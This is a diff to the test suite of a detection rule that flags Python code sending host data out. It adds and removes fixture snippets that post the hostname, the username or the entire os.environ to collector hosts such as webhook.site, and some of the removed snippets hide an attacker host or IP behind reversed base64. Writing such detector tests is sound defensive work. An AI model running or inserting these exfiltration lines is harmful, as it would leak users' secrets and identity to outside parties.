@@ -8,6 +8,7 @@ ruleTest(rule, {
     { name: 'local dev server', file: 'app.py', code: `import requests\nr = requests.get("http://127.0.0.1:1245/api/health")\nr2 = requests.post("http://192.168.1.10:8000/x", json={"a": 1})\n` },
     { name: 'requests own code building a URL', file: 'requests/models.py', code: `from urllib.parse import urlencode\ndef prepare_url(self, url, params):\n    enc_params = self._encode_params(params)\n    self.url = url + "?" + enc_params\n` },
     { name: 'API client with documented host', file: 'client.py', code: `import httpx, os\nTOKEN = os.environ["API_TOKEN"]\nhttpx.get("https://api.github.com/user", headers={"Authorization": TOKEN})\n` },
+    { name: 'a plain request to a named index', file: 'n.py', code: `import requests\nrequests.get("https://pypi.org/simple/")\n` },
     { name: 'HTTPSConnection request with no host data', file: 'h.py', code: `from http.client import HTTPSConnection\nfrom os import getlogin\nprint(getlogin())\nconn = HTTPSConnection("api.example.org")\nconn.request("GET", "/status")\n` },
   ],
   flagged: [
@@ -36,18 +37,6 @@ ruleTest(rule, {
       findings: [{ line: 3, confidence: 'high', message: /DNS lookup/ }],
     },
     {
-      name: 'connection to an encoded host through a decoding method',
-      file: 'c.py',
-      code: `from http.client import HTTPSConnection\nfrom base64 import b64decode\nclass A:\n    def decd(self, data):\n        return b64decode(data[::-1]).decode()\n    def go(self):\n        hosts = ['${Buffer.from('c2.example-bad.net').toString('base64').split('').reverse().join('')}']\n        c = HTTPSConnection(self.decd(hosts[0]), timeout=1)\n`,
-      findings: [{ line: 8, confidence: 'high', decoded: 'c2.example-bad.net', message: /hidden by reverse → base64/ }],
-    },
-    {
-      name: 'URL kept base64-encoded',
-      file: 'scanner.py',
-      code: `import base64\nencode_data = "${Buffer.from('http://5.42.92.191:5000/post').toString('base64')}"\nurl = base64.b64decode(encode_data).decode()\n`,
-      findings: [{ line: 2, confidence: 'high', decoded: 'http://5.42.92.191:5000/post' }],
-    },
-    {
       name: 'login name posted through an HTTPSConnection object',
       file: 'c.py',
       code: `from http.client import HTTPSConnection\nfrom os import getlogin\nfrom json import dumps\ndef send(host, path, e):\n    body = {'n': getlogin(), 'e': e}\n    conn = HTTPSConnection(host, timeout=1)\n    conn.request('POST', path, dumps(body))\n`,
@@ -58,6 +47,27 @@ ruleTest(rule, {
       file: 'm.py',
       code: `import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nreq = urllib.request.Request("https://collector.example.org/x", data=data)\nurllib.request.urlopen(req)\n`,
       findings: [{ line: 3, message: /host identity \(dict\(os\.environ\)\)/, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'host identity sent to a webhook collector is critical',
+      file: 'analyzer.py',
+      code: `import socket, requests\ndata = {'hostname': socket.gethostname(), 'os': 'x'}\nrequests.post('https://webhook.site/baf67bd8-0000/analytics', json=data)\n`,
+      findings: [
+        { line: 3, message: /host identity \(socket\.gethostname\) to https:\/\/webhook\.site/, severity: 'critical', confidence: 'high' },
+        { line: 3, message: /Data drop endpoint webhook\.site/ },
+      ],
+    },
+    {
+      name: 'the environment among other host data is what counts',
+      file: 'mlc.py',
+      code: `import socket, os, json, urllib.request\ndef send(url):\n    data = {"hostname": socket.gethostname(), "env": dict(os.environ)}\n    req = urllib.request.Request(url, data=json.dumps(data).encode())\n    urllib.request.urlopen(req)\n`,
+      findings: [{ line: 4, message: /host identity \(dict\(os\.environ\)\)/, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'host identity through a session object',
+      file: 's.py',
+      code: `import aiohttp, getpass\nasync def go():\n    session = aiohttp.ClientSession()\n    await session.post("https://collect.example.net/u", data={"u": getpass.getuser()})\n`,
+      findings: [{ line: 4, message: /host identity \(getpass\.getuser\)/, severity: 'high', confidence: 'medium' }],
     },
   ],
 });
